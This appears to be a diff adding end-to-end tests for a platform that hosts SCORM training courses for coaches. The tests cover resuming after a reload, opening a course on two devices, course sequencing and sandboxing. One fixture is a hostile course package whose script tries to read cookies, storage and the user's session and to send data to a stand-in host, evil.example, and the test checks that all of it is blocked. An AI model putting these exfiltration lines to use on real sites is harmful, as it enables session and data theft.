@@ -1,0 +1,270 @@
+import { course12, course2004, manifest12, type PackageFiles } from "../apps/api/test/packages.ts";
+import { expect, type Page, test, usableByAll } from "./fixtures.ts";
+import { uploaded } from "./trainings.ts";
+
+test("a coach takes a course on the phone, goes on after a reload, fails, and passes", async ({
+  anotherBrowser,
+  organization,
+  page,
+  signIn,
+}) => {
+  const org = await organization("Rainier Youth Soccer");
+  const admin = await org.aMember("root", "Administrator");
+  const coach = await org.aMember("northTeam", "Head Coach");
+  await test.step("an administrator uploads and assigns it", async () => {
+    await signIn(page, admin.email);
+    await uploaded(page, org, course12, {
+      more: async () => {
+        await expect(page.getByText("“Sideline safety”, SCORM 1.2, one part")).toBeVisible();
+        await page.getByLabel("Score to reach, in percent").fill("80");
+      },
+    });
+  });
+
+  const phone = await anotherBrowser({ viewport: { width: 390, height: 844 } });
+  const course = phone.frameLocator('iframe[title="Sideline safety"]');
+  await test.step("the coach goes half way, and leaves by a reload", async () => {
+    await signIn(phone, coach.email);
+    await phone.getByRole("link", { name: "Do it now" }).click();
+    await expect(phone.getByRole("button", { name: "Start: Sideline safety" })).toBeVisible();
+    await usableByAll(phone);
+    await phone.getByRole("button", { name: "Start: Sideline safety" }).click();
+    await expect(course.getByText("Slide 1 of 3")).toBeVisible();
+    await course.getByRole("button", { name: "Next" }).click();
+    await expect(course.getByText("Slide 2 of 3, seen: 1")).toBeVisible();
+    await expect(phone.getByText("Saved", { exact: true })).toBeVisible();
+    await phone.reload();
+    await expect(phone.getByText("Begun")).toBeVisible();
+    await usableByAll(phone);
+  });
+
+  await test.step("it goes on there, and a wrong answer does not pass", async () => {
+    await phone.getByRole("button", { name: "Go on: Sideline safety" }).click();
+    await expect(course.getByText("Slide 2 of 3, seen: 1")).toBeVisible();
+    await course.getByRole("button", { name: "Next" }).click();
+    await course.getByRole("button", { name: "Anybody" }).click();
+    await expect(phone.getByText("Not passed yet")).toBeVisible();
+    await expect(phone.getByText("Not passed, 20 %")).toBeVisible();
+    await usableByAll(phone);
+  });
+
+  await test.step("the right one does", async () => {
+    await phone.getByRole("button", { name: "Try again: Sideline safety" }).click();
+    await expect(course.getByText("Slide 1 of 3")).toBeVisible();
+    for (const _ of [1, 2]) await course.getByRole("button", { name: "Next" }).click();
+    await course.getByRole("button", { name: "Nobody" }).click();
+    await expect(phone.getByText("Completed", { exact: true }).first()).toBeVisible();
+    await usableByAll(phone);
+  });
+});
+
+test("where it is opened on another device, the first one is told and keeps nothing", async ({
+  anotherBrowser,
+  organization,
+  page,
+  signIn,
+  complaints,
+}) => {
+  const org = await organization("Rainier Youth Soccer");
+  const coach = await org.aMember("northTeam", "Head Coach");
+  const desk = await anotherBrowser();
+  await signIn(desk, (await org.aMember("root", "Administrator")).email);
+  await uploaded(desk, org, course12);
+  const devices = [page, await anotherBrowser({}, [409])] as const;
+  const frameOf = (one: Page) => one.frameLocator('iframe[title="Sideline safety"]');
+  for (const one of devices) {
+    await signIn(one, coach.email);
+    await one.getByRole("link", { name: /^(Do it now|Go on)/ }).click();
+    await one.getByRole("button", { name: /^(Start|Go on): Sideline safety/ }).click();
+    await expect(frameOf(one).getByText("Slide 1 of 3")).toBeVisible();
+    await expect(one.getByText("Saved", { exact: true })).toBeVisible();
+  }
+  await frameOf(page).getByRole("button", { name: "Next" }).click();
+  await expect(page.getByText("It is open somewhere else")).toBeVisible();
+  await frameOf(devices[1]).getByRole("button", { name: "Next" }).click();
+  await expect(frameOf(devices[1]).getByText("Slide 2 of 3, seen: 1")).toBeVisible();
+  await devices[1].getByRole("button", { name: "Close", exact: true }).click();
+  await expect(devices[1].getByRole("button", { name: "Go on: Sideline safety" })).toBeVisible();
+  await page.getByRole("button", { name: "Close", exact: true }).click();
+  await page.getByRole("button", { name: "Go on: Sideline safety" }).click();
+  await expect(frameOf(page).getByText("Slide 2 of 3, seen: 1")).toBeVisible();
+  complaints.splice(0, complaints.length, ...complaints.filter((text) => !text.includes("status of 409")));
+});
+
+test("a course of SCORM 2004 that looks above itself first is passed", async ({
+  anotherBrowser,
+  organization,
+  page,
+  signIn,
+}) => {
+  const org = await organization("Rainier Youth Soccer");
+  const coach = await org.aMember("northTeam", "Head Coach");
+  const desk = await anotherBrowser();
+  await signIn(desk, (await org.aMember("root", "Administrator")).email);
+  await uploaded(desk, org, course2004);
+  await signIn(page, coach.email);
+  await page.getByRole("link", { name: "Do it now" }).click();
+  await page.getByRole("button", { name: "Start: Concussion basics" }).click();
+  const course = page.frameLocator('iframe[title="Concussion basics"]');
+  await expect(course.getByText("ab-initio start=1 ?lang=en")).toBeVisible();
+  await course.getByRole("button", { name: "Done" }).click();
+  await expect(page.getByText("Completed", { exact: true }).first()).toBeVisible();
+});
+
+/** Two parts, one after the other, the first of which leads on to the second. */
+const inOrder: PackageFiles = {
+  "imsmanifest.xml": `<?xml version="1.0"?>
+<manifest identifier="c" xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3" xmlns:imsss="http://www.imsglobal.org/xsd/imsss">
+  <metadata><schemaversion>2004 4th Edition</schemaversion></metadata>
+  <organizations default="o"><organization identifier="o"><title>Sideline safety</title>
+    <item identifier="rules" identifierref="r0"><title>The rules</title></item>
+    <item identifier="cases" identifierref="r1"><title>Cases</title></item>
+    <imsss:sequencing><imsss:controlMode choice="false" flow="true"/></imsss:sequencing>
+  </organization></organizations>
+  <resources>${["rules", "cases"]
+    .map(
+      (name, place) => `<resource identifier="r${place}" type="webcontent" adlcp:scormType="sco" href="${name}.html"/>`,
+    )
+    .join("")}</resources>
+</manifest>`,
+  ...Object.fromEntries(
+    ["rules", "cases"].map((name) => [
+      `${name}.html`,
+      `<!DOCTYPE html><html lang="en"><head><title>${name}</title></head><body><h1>${name}</h1><p id="may"></p><button id="go">Go on</button><script src="go.js"></script></body></html>`,
+    ]),
+  ),
+  "go.js": `
+var API = window.API_1484_11;
+API.Initialize("");
+document.getElementById("may").textContent = ["continue", "previous", "choice.{target=rules}"].map(function (to) {
+  return API.GetValue("adl.nav.request_valid." + to);
+}).join(" ");
+document.getElementById("go").onclick = function () {
+  API.SetValue("cmi.completion_status", "completed");
+  API.SetValue("adl.nav.request", "continue");
+  API.Terminate("");
+};
+`,
+};
+
+test("a course of two parts leads from the first to the second, which waits for it", async ({
+  anotherBrowser,
+  organization,
+  page,
+  signIn,
+}) => {
+  const org = await organization("Rainier Youth Soccer");
+  const coach = await org.aMember("northTeam", "Head Coach");
+  const desk = await anotherBrowser();
+  await signIn(desk, (await org.aMember("root", "Administrator")).email);
+  await uploaded(desk, org, inOrder);
+  await page.setViewportSize({ width: 390, height: 844 });
+  await signIn(page, coach.email);
+  await page.getByRole("link", { name: "Do it now" }).click();
+  await expect(page.getByText("After “The rules”.")).toBeVisible();
+  await expect(page.getByRole("button", { name: "Start: Cases" })).toBeDisabled();
+  await usableByAll(page);
+  await page.screenshot({ path: test.info().outputPath("parts.png"), fullPage: true });
+  await page.getByRole("button", { name: "Start: The rules" }).click();
+  const first = page.frameLocator('iframe[title="The rules"]');
+  await expect(first.getByText("true false true")).toBeVisible();
+  await first.getByRole("button", { name: "Go on" }).click();
+  const second = page.frameLocator('iframe[title="Cases"]');
+  await expect(second.getByText("false true true")).toBeVisible();
+  await second.getByRole("button", { name: "Go on" }).click();
+  await expect(page.getByText("Completed", { exact: true }).first()).toBeVisible();
+});
+
+/** What a package that means no good tries, each told by whether it came to anything. */
+const hostile: PackageFiles = {
+  "imsmanifest.xml": manifest12([{ title: "Sideline safety", href: "index.html" }]),
+  "inner.html": `<!DOCTYPE html><script src="inner.js"></script>`,
+  "inner.js": `try { top.document.title; top.postMessage("inner reached", "*") } catch (error) { window.parent.postMessage("inner refused") }`,
+  "index.html": `<!DOCTYPE html><html><head><title>Bad</title></head><body><h1>Trying</h1><ul id="came"></ul>
+<iframe src="inner.html" title="inner" width="10" height="10"></iframe><script src="bad.js"></script></body></html>`,
+  "bad.js": `
+var came = document.getElementById("came");
+function say(what, result) { var one = document.createElement("li"); one.textContent = what + ": " + result; came.appendChild(one); }
+function attempt(what, act) { try { say(what, "reached " + String(act()).slice(0, 60)); } catch (error) { say(what, "refused"); } }
+var above = window.top;
+attempt("page", function () { return above.document.title; });
+attempt("address", function () { return above.location.href; });
+attempt("cookie", function () { return Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document); });
+["localStorage", "sessionStorage"].forEach(function (name) {
+  attempt(name, function () {
+    var frame = document.createElement("iframe");
+    document.body.appendChild(frame);
+    return frame.contentWindow[name].length;
+  });
+});
+attempt("database", function () { indexedDB.open("x").onerror = null; return "opened"; });
+attempt("stand-in", function () { localStorage.setItem("a", "1"); if (localStorage.getItem("touchline") !== null) throw 0; return localStorage.getItem("a"); });
+// As a page of its own it may leave, as any may.
+if (above !== window) try { above.location = "https://evil.example/"; say("leading away", "asked"); } catch (error) { say("leading away", "refused"); }
+function call(what, url, options) {
+  fetch(url, options).then(function (answer) { return answer.text(); }).then(function (text) { say(what, "reached " + text.slice(0, 60)); }, function () { say(what, "refused"); });
+}
+call("session", "/api/active-user-session", { credentials: "include" });
+call("elsewhere", "https://evil.example/steal");
+var image = new Image();
+image.onload = function () { say("image", "reached"); };
+image.onerror = function () { say("image", "refused"); };
+image.src = "https://evil.example/steal.png";
+`,
+};
+
+test("a package that means no good reaches neither the page, nor the session, nor anything elsewhere", async ({
+  anotherBrowser,
+  context,
+  organization,
+  page,
+  signIn,
+  complaints,
+}) => {
+  const org = await organization("Rainier Youth Soccer");
+  const coach = await org.aMember("northTeam", "Head Coach");
+  const desk = await anotherBrowser();
+  await signIn(desk, (await org.aMember("root", "Administrator")).email);
+  await uploaded(desk, org, hostile);
+  const elsewhere: string[] = [];
+  await context.route("https://evil.example/**", (route) => {
+    elsewhere.push(route.request().url());
+    return route.fulfill({ body: "stolen", headers: { "access-control-allow-origin": "*" } });
+  });
+  await signIn(page, coach.email);
+  await page.evaluate(() => localStorage.setItem("touchline-test", "kept"));
+  await page.getByRole("link", { name: "Do it now" }).click();
+  await page.getByRole("button", { name: "Start: Sideline safety" }).click();
+  const course = page.frameLocator('iframe[title="Sideline safety"]');
+  for (const what of [
+    "page",
+    "address",
+    "cookie",
+    "database",
+    "localStorage",
+    "sessionStorage",
+    "session",
+    "elsewhere",
+    "image",
+    "leading away",
+  ]) {
+    await expect(course.getByText(`${what}: refused`, { exact: true })).toBeVisible();
+  }
+  await expect(course.getByText("stand-in: reached 1")).toBeVisible();
+  expect(elsewhere).toEqual([]);
+  expect(new URL(page.url()).pathname).toMatch(/^\/requirements\//);
+  await page.getByRole("button", { name: "Close", exact: true }).click();
+
+  await test.step("nor opened by its address as a page of its own", async () => {
+    const address = await page.evaluate(() => performance.getEntriesByType("resource").map((one) => one.name));
+    const own = address.find((one) => one.includes("/training-package/"));
+    expect(own).toBeDefined();
+    const alone = await context.newPage();
+    await alone.goto(own as string);
+    await expect(alone.getByText("cookie: refused")).toBeVisible();
+    await expect(alone.getByText("session: refused")).toBeVisible();
+    await alone.close();
+  });
+  expect(complaints.length).toBeGreaterThan(0);
+  complaints.length = 0;
+});
